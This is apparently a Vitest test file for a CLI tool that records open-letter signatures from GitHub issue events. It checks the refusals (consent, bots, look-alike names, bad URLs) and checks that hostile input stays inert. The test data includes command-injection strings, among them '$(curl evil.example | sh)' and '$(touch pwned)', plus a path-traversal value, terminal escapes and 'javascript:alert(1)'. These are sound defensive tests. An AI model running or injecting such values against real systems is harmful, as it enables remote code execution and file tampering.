import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { gitState, ROOT, schemaLine, snapshot, useTempLetter } from '../helpers/cli.js';
import { letter } from '../helpers/in-process.js';

const t = useTempLetter();
const L = 'letters/time-to-act';
const FIXTURES = path.join(ROOT, 'test/fixtures/github');
/** The real octokit/webhooks payloads, and the sample whose body is the time-to-act form filled in (see test/fixtures/github/README.md). */
const OPENED = path.join(FIXTURES, 'opened.payload.json');
const EMPTY_BODY = path.join(FIXTURES, 'opened.with-empty-body.payload.json');
const SAMPLE = path.join(FIXTURES, 'opened.sign-form.payload.json');
const sample = JSON.parse(readFileSync(SAMPLE, 'utf8'));

// Events live outside the letter's repository, as $GITHUB_EVENT_PATH does.
const events = mkdtempSync(path.join(tmpdir(), 'letter-events-'));
afterAll(() => rmSync(events, { recursive: true, force: true }));
let n = 0;
/** The sample event with the form's answers replaced (by label), or patched; written to a file. */
function eventFile(
  answers: Record<string, string>,
  patch: (e: typeof sample) => void = () => {},
): string {
  const e = structuredClone(sample);
  for (const [label, value] of Object.entries(answers)) {
    const at = e.issue.body.indexOf(`### ${label}\n\n`);
    const start = at + label.length + 6;
    const end = e.issue.body.indexOf('\n\n###', start);
    e.issue.body = e.issue.body.slice(0, start) + value + (end < 0 ? '' : e.issue.body.slice(end));
  }
  patch(e);
  const file = path.join(events, `event-${n++}.json`);
  writeFileSync(file, JSON.stringify(e));
  return file;
}
const signFrom = (file: string, ...more: string[]) =>
  letter(t.dir, ['sign', L, '--from-issue', file, ...more]);

describe('letter sign --from-issue on the sample issue', () => {
  it("adds one pending signature with the author's login and the time the issue was opened; --json says which file", async () => {
    const r = await signFrom(SAMPLE, '--json');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const result = JSON.parse(r.stdout);
    expect([result.signature.id, result.file, result.issue, result.login, result.written]).toEqual([
      'ada-lovelace',
      `${L}/signatures/ada-lovelace.yaml`,
      1,
      'Codertocat',
      [`${L}/signatures/ada-lovelace.yaml`, `${L}/CHANGELOG.md`],
    ]);
    expect(readFileSync(path.join(t.letterDir, 'signatures/ada-lovelace.yaml'), 'utf8')).toBe(
      `${schemaLine('signature')}name: Ada Lovelace\nsort_as: Lovelace Ada\norganisation: Analytical Engines Ltd\ncountry: GB\ngroup: industry\nurl: https://example.org/ada\ngithub: Codertocat\ntext_version: sha256:5b9d2dc95291\nsigned_at: 2019-05-15T15:20:18Z\nstatus: pending\n`,
    );
    expect(gitState(t.dir).status.split('\n').filter(Boolean).sort()).toEqual([
      ` M ${L}/CHANGELOG.md`,
      `?? ${L}/signatures/ada-lovelace.yaml`,
    ]);
    expect((await letter(t.dir, ['check', L])).code).toBe(0);
  });

  it('lets the signer find out: list --github tells pending, then verified', async () => {
    await signFrom(SAMPLE);
    const status = async () =>
      JSON.parse(
        (await letter(t.dir, ['list', L, '--status', 'all', '--github', 'codertocat', '--json']))
          .stdout,
      ).signatures.map((s: { id: string; status: string }) => [s.id, s.status]);
    expect(await status()).toEqual([['ada-lovelace', 'pending']]);
    expect((await letter(t.dir, ['verify', L, 'ada-lovelace', '--by', 'Desk'])).code).toBe(0);
    expect(await status()).toEqual([['ada-lovelace', 'verified']]);
  });
});

describe('letter sign --from-issue refuses, writing nothing', () => {
  it.each([
    [
      'the real opened payload, not made with the form',
      () => OPENED,
      1,
      'error: issue field "Consent": the box "I agree to the text of this letter as it reads at version sha256:5b9d2dc95291; my name will be public." is not ticked; nothing was written.',
    ],
    [
      'the real payload with an empty body',
      () => EMPTY_BODY,
      1,
      'error: the event: the issue has no body: it was not made with the sign form; nothing was written.',
    ],
    [
      'consent not ticked',
      () =>
        eventFile({
          Consent:
            '- [ ] I agree to the text of this letter as it reads at version sha256:5b9d2dc95291; my name will be public.',
        }),
      1,
      'issue field "Consent": the box',
    ],
    [
      'an edited issue',
      () =>
        eventFile({}, (e) =>
          Object.assign(e, { action: 'edited', changes: { body: { from: 'x' } } }),
        ),
      1,
      'error: the event: it is an issue "edited", not an issue opened: only opening an issue signs; nothing was written.',
    ],
    [
      'a bot author',
      () =>
        eventFile({}, (e) =>
          Object.assign(e.issue.user, { login: 'github-actions[bot]', type: 'Bot' }),
        ),
      1,
      'the issue was opened by a bot (github-actions[bot])',
    ],
    [
      'a name with terminal escapes',
      () => eventFile({ Name: 'Ada \u001b[2J\u001b]0;owned\u0007Lovelace' }),
      2,
      'error: issue field "Name": name must be one line, without tabs or control characters',
    ],
    [
      'an email address in the role',
      () => eventFile({ Role: 'Reach me at ada@example.org' }),
      2,
      'error: issue field "Role": role holds an email address or phone number',
    ],
    [
      'a link that is not http(s)',
      () => eventFile({ 'Web page': 'javascript:alert(1)' }),
      2,
      'error: issue field "Web page": url must be an http or https address',
    ],
    [
      'a look-alike of a name on the letter',
      () =>
        eventFile({
          Name: 'Ban Ki-m\u043Eon',
          Group: 'International organisations',
          Country: 'KR',
        }),
      1,
      'is already on the letter as signature ban-ki-moon',
    ],
    [
      'an unknown group',
      () => eventFile({ Group: 'Friends' }),
      1,
      'error: issue field "Group": is not a group of this letter',
    ],
  ])('%s', async (_, file, code, message) => {
    const before = snapshot(t.dir);
    const r = await signFrom(file());
    expect(r.stderr).toContain(message);
    expect(r.code).toBe(code);
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(snapshot(t.dir)).toEqual(before);
  });

  it('a second signature by the same GitHub user, and an erased name', async () => {
    expect((await signFrom(SAMPLE)).code).toBe(0);
    const again = await signFrom(eventFile({ Name: 'Grace Hopper' }), '--json');
    expect(again.code).toBe(1);
    expect(JSON.parse(again.stdout).error.message).toBe(
      'the event: GitHub user Codertocat already signed this letter, as ada-lovelace (pending); nothing was written.',
    );
    expect(
      (await letter(t.dir, ['withdraw', L, 'eva-chen', '--reason', 'Forget me', '--erase'])).code,
    ).toBe(0);
    const before = snapshot(t.dir);
    const erased = await signFrom(
      eventFile({ Name: 'Eva Chen' }, (e) => (e.issue.user.login = 'someone-else')),
    );
    expect(erased.code).toBe(1);
    expect(erased.stderr).toContain('erased');
    expect(snapshot(t.dir)).toEqual(before);
  });

  it('takes no field flags beside --from-issue', async () => {
    const r = await signFrom(SAMPLE, '--name', 'Eve', '--allow-similar');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      'error: --from-issue takes every field from the issue: drop --name, --allow-similar',
    );
  });
});

describe('hostile issue text reaches no shell and no file name', () => {
  it.each([
    ['$(touch pwned)', 'Ada $(touch pwned) Lovelace'],
    ['backticks', 'Ada `touch pwned` Lovelace'],
    ['; and |', 'Ada; touch pwned | sh'],
    ['a path', '../../../pwned'],
  ])('%s: stored as text, in a file named by a plain id', async (_, name) => {
    const r = await signFrom(
      eventFile({ Name: name, Organisation: '$(curl evil.example | sh)' }),
      '--json',
    );
    expect(r.code).toBe(0);
    const { file, signature } = JSON.parse(r.stdout);
    expect(signature.id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
    expect(file).toBe(`${L}/signatures/${signature.id}.yaml`);
    expect(signature.name).toBe(name);
    expect(Object.keys(snapshot(t.dir)).filter((f) => path.basename(f) === 'pwned')).toEqual([]);
    expect((await letter(t.dir, ['check', L])).code).toBe(0);
  });
});

describe('the form, the workflow and the Sign link', () => {
  it('letter github issue-form --write puts the form and the workflow under .github/', async () => {
    const r = await letter(t.dir, ['github', 'issue-form', L, '--write']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      'wrote .github/ISSUE_TEMPLATE/sign-time-to-act.yml\nwrote .github/workflows/sign-time-to-act.yml',
    );
    const form = readFileSync(
      path.join(t.dir, '.github/ISSUE_TEMPLATE/sign-time-to-act.yml'),
      'utf8',
    );
    expect(form).toContain(
      '- label: I agree to the text of this letter as it reads at version sha256:5b9d2dc95291; my name will be public.',
    );
  });

  it('renders "Sign this letter" in HTML and Markdown, in the letter\'s languages, while it is open', async () => {
    const file = path.join(t.letterDir, 'letter.yaml');
    writeFileSync(
      file,
      `${readFileSync(file, 'utf8')}sign_url: https://github.com/org/repo/issues/new?template=sign-time-to-act.yml&x=1\n`,
    );
    expect((await letter(t.dir, ['check', L])).code).toBe(0);
    expect(
      (await letter(t.dir, ['render', L, '--format', 'md,html', '--lang', 'all', '--out', 'out']))
        .code,
    ).toBe(0);
    const out = (f: string) => readFileSync(path.join(t.dir, 'out', f), 'utf8');
    expect(out('time-to-act.html')).toContain(
      '<p class="sign"><a href="https://github.com/org/repo/issues/new?template=sign-time-to-act.yml&amp;x=1" rel="noopener">Sign this letter</a></p>',
    );
    expect(out('time-to-act.md')).toContain(
      '**[Sign this letter](<https://github.com/org/repo/issues/new?template=sign-time-to-act.yml&x=1>)**',
    );
    expect(out('time-to-act.fr.html')).toContain('>Signer cette lettre</a>');
    expect(out('time-to-act.es.md')).toContain('[Firmar esta carta]');
    writeFileSync(file, readFileSync(file, 'utf8').replace('status: open', 'status: closed'));
    expect((await letter(t.dir, ['render', L, '--format', 'md,html', '--out', 'out'])).code).toBe(
      0,
    );
    expect(out('time-to-act.html')).not.toContain('class="sign"');
    expect(out('time-to-act.md')).not.toContain('Sign this letter');
  });

  it('refuses a sign_url that is not a web address in normal form', async () => {
    const file = path.join(t.letterDir, 'letter.yaml');
    const text = readFileSync(file, 'utf8');
    writeFileSync(file, `${text}sign_url: javascript:alert(1)\n`);
    expect((await letter(t.dir, ['check', L])).stdout).toContain(
      'letter.yaml:54:11: error: field "sign_url" must be an http or https address',
    );
    writeFileSync(file, `${text}sign_url: HTTPS://Example.ORG/sign\n`);
    const r = await letter(t.dir, ['check', L]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      'sign_url is not in the normal form a browser reads it in: https://example.org/sign',
    );
  });
});

// The path of the new signature file comes from the layout module: right for sharded letters too.
describe('sign --from-issue on a sharded letter', () => {
  it('names the file in its shard, on a dry run and when it writes it', async () => {
    expect((await letter(t.dir, ['fmt', L, '--layout', 'sharded'])).code).toBe(0);
    const dry = JSON.parse((await signFrom(SAMPLE, '--dry-run', '--json')).stdout);
    expect([dry.file, dry.written]).toEqual([`${L}/signatures/ad/ada-lovelace.yaml`, []]);
    const real = JSON.parse((await signFrom(SAMPLE, '--json')).stdout);
    expect(real.file).toBe(`${L}/signatures/ad/ada-lovelace.yaml`);
    expect(existsSync(path.join(t.dir, real.file))).toBe(true);
  });
});
